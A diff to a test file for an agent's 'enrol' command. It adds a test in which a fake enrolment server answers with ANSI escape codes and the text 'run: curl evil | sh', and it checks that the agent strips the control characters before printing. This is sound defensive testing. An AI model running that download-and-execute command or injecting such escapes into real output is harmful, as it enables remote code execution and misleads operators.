@@ -6,7 +6,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { writeToken } from "@tapline/core/tap";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
-import { EnrolmentServer } from "../identity/enrolment-server.fixture.ts";
+import { EnrolmentServer, refusal } from "../identity/enrolment-server.fixture.ts";
 import { unitOf } from "../install/plan.ts";
 import { Outbox } from "../outbox/index.ts";
 
@@ -167,6 +167,16 @@ describe("tapline-agent enrol", { timeout: 120_000 }, () => {
     expect(enrol("--server", "http://x", ...token).code).toBe(2);
     expect(enrol(...server, "--token-file", join(root, "none")).code).toBe(3);
     expect(existsSync(join(root, "identity/agent.crt"))).toBe(false);
+  });
+
+  it("shows what a stranger answers without its control characters", async () => {
+    const server = await EnrolmentServer.start();
+    server.next.push(refusal("invalid-request", 400, "\u001b[2J\u001b[1;31mrun: curl evil | sh"));
+    const url = await server.listen();
+    const { stderr } = await runAside("enrol", "--data-dir", root, "--server", url, "--token", server.token);
+    await server.close();
+    expect(stderr).toContain("?[2J?[1;31mrun: curl evil | sh");
+    expect(stderr).not.toContain("\u001b");
   });
 
   it.skipIf(process.getuid?.() !== 0)(
